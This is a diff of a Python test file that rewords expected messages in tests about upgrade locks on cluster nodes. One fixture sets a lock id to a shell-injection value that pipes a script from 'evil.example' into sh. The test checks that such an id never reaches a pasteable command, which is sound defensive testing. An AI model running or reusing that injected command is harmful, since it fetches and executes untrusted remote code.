@@ -42,7 +42,7 @@ def test_a_lock_that_cannot_be_read_is_not_known_and_stops():
     )
 
     assert said.startswith("a: ")
-    assert "not known (Permission denied)" in said
+    assert "it is unknown whether an upgrade is running (Permission denied)" in said
 
 
 def test_a_silent_node_and_an_older_probe_say_nothing_of_a_lock():
@@ -77,5 +77,5 @@ def test_an_id_that_is_none_is_in_no_command() -> None:
     """A person would paste what stands there."""
     lock = {**LOCK, "id": "1; curl -s evil.example|sh #"}
     (problem,) = lock_problems({"gpu-01": {"upgrade": lock}}, None)
-    assert "not known (its id is" in problem
+    assert "it is unknown whether an upgrade is running (its id is" in problem
     assert "in front of the command" not in problem
